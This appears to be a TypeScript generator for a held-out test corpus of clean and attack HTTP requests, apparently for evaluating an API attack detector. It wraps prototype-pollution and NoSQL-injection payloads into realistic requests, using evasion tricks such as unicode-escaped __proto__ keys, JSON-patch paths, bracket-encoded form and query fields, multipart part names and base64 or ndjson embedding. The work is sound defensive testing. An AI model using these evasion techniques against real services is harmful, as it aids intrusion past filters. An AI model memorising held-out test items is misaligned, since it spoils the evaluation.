    (p) => jd('json-field-url', 'POST', '/api/posts', { caption: 'yum', media: [{ type: 'image', url: p }] }),
    (p) =>
      jd('graphql-variables', 'POST', '/graphql', {
        query: 'mutation Import($u: String!) { importRecipeFromUrl(url: $u) { id } }',
        variables: { u: p },
      }),
  ],
  'prototype-pollution': [
    (p) => ({
      technique: 'top-level-key',
      method: 'PATCH',
      path: `/v1/players/p_${hex(8)}/settings`,
      headers: headers('application/merge-patch+json'),
      body: p,
    }),
    (p) => ({
      technique: 'nested-key',
      method: 'POST',
      path: '/v1/mods',
      headers: headers('json'),
      body: `{"name":"Better HUD","config":${p}}`,
    }),
    (p) => ({
      technique: 'unicode-escaped-key',
      method: 'PUT',
      path: `/api/dashboards/uid/${hex(9)}`,
      headers: headers('json'),
      body: `{"dashboard":${p.replace(/__proto__/g, '\\u005f\\u005fproto\\u005f\\u005f').replace(/"constructor"/g, '"\\u0063onstructor"')}}`,
    }),
    (p) => ({
      technique: 'array-element',
      method: 'POST',
      path: '/api/shopping-lists',
      headers: headers('json'),
      body: `{"name":"Week 24","items":[{"text":"2 eggs","checked":false},${p}]}`,
    }),
    (p) => ({
      technique: 'graphql-variables',
      method: 'POST',
      path: '/graphql',
      headers: headers('json'),
      body: `{"operationName":"Save","query":"mutation Save($s: JSON!) { updateSettings(settings: $s) { ok } }","variables":{"s":${p}}}`,
    }),
    (p) => {
      const [keys, value] = leaf(p);
      return jd(
        'json-patch-path',
        'PATCH',
        `/api/buckets/acme-${hex(4)}`,
        [{ op: 'add', path: `/${keys.join('/')}`, value }],
        'application/json-patch+json',
      );
    },
    (p) => {
      const [keys, value] = leaf(p);
      return {
        technique: 'query-string-brackets',
        method: 'GET',
        path: `/api/recipes/search?q=soup&${bracket(keys)}=${encodeURIComponent(String(value))}`,
        headers: headers('none'),
        body: '',
      };
    },
    (p) => {
      const [keys, value] = leaf(p);
      return {
        technique: 'form-body-brackets',
        method: 'POST',
        path: '/api/newsletter/subscribe',
        headers: headers('application/x-www-form-urlencoded'),
        body: `email=foodie%40example.net&${encodeURIComponent(bracket(keys))}=${encodeURIComponent(String(value))}`,
      };
    },
    (p) => {
      const [keys, value] = leaf(p);
      const bd = `----WebKitFormBoundary${hex(16)}`;
      const body = `--${bd}\r\nContent-Disposition: form-data; name="caption"\r\n\r\nbrunch 🥞\r\n--${bd}\r\nContent-Disposition: form-data; name="${bracket(keys)}"\r\n\r\n${String(value)}\r\n--${bd}--\r\n`;
      return {
        technique: 'multipart-part-name',
        method: 'POST',
        path: '/api/media/upload',
        headers: headers(`multipart/form-data; boundary=${bd}`),
        body,
      };
    },
    (p) => ({
      technique: 'ndjson-line',
      method: 'POST',
      path: '/v2/telemetry/driver-locations',
      headers: headers('application/x-ndjson'),
      body: `{"driver_id":"drv_${hex(10)}","lat":40.71,"lng":-74.0}\n{"driver_id":"drv_${hex(10)}","meta":${p}}\n`,
    }),
    (p) => ({
      technique: 'jsonapi-attribute',
      method: 'PATCH',
      path: `/api/enrollments/${int(1000, 99999)}`,
      headers: headers('application/vnd.api+json'),
      body: `{"data":{"type":"enrollments","id":"1","attributes":${p}}}`,
    }),
    (p) =>
      jd('base64-in-string', 'PUT', `/v1/players/p_${hex(8)}/state`, {
        save_blob: b64(p),
        encoding: 'base64+json',
      }),
    (p) => jd('json-in-string', 'POST', '/api/v2/triggers', { title: 'VIP', conditions_json: p }),
    (p) => {
      const [keys, value] = leaf(p);
      return jd('dotted-path-key', 'POST', '/api/v2/tickets/bulk-update', {
        ids: [int(1, 9999)],
        set: { [keys.join('.')]: value },
      });
    },
  ],
  nosql: [
    (p) => {
      const [keys, value] = leaf(p);
      return {
        technique: 'query-string-brackets',
        method: 'GET',
        path: `/api/v2/users?${keys.length ? `email[${keys.join('][')}]` : 'email'}=${encodeURIComponent(String(value))}`,
        headers: headers('none'),
        body: '',
      };
    },
    (p) => {
      const [keys, value] = leaf(p);
      return {
        technique: 'form-body-brackets',
        method: 'POST',
        path: '/api/console/login',
        headers: headers('application/x-www-form-urlencoded'),
        body: `username=admin&${encodeURIComponent(keys.length ? `password[${keys.join('][')}]` : 'password')}=${encodeURIComponent(String(value))}`,
      };
    },
  ],
};

function buildAttacks(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  let n = 0;
  const fams = Object.keys(PAYLOADS);
  for (const fam of fams) {
    const payloads = PAYLOADS[fam] ?? [];
    const extra = FAMILY_EXTRA[fam] ?? [];
    // Prototype pollution only exists as object structure, so it uses its own structural techniques only.
    const techs = fam === 'prototype-pollution' ? extra : [...extra, ...TECHNIQUES];
    for (let i = 0; i < 33; i++) {
      const p = payloads[i % payloads.length] ?? '';
      const t = techs[(i * 5 + Math.floor(i / techs.length)) % techs.length];
      if (!t) throw new Error('no technique');
      const d = t(p, fam);
      n++;
      out.push({
        id: `h21a${n}`,
        kind: 'attack',
        family: fam,
        technique: d.technique,
        method: d.method,
        path: d.path,
        headers: d.headers,
        body: d.body,
      });
    }
  }
  return out;
}

const clean = buildClean();
const attacks = buildAttacks();

/** Held-out corpus 21: clean production-like traffic and attacks hidden in API payloads. */
export const heldout21: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout21.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout21.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  console.log(`heldout21: ${clean.length} clean, ${attacks.length} attacks`);
}
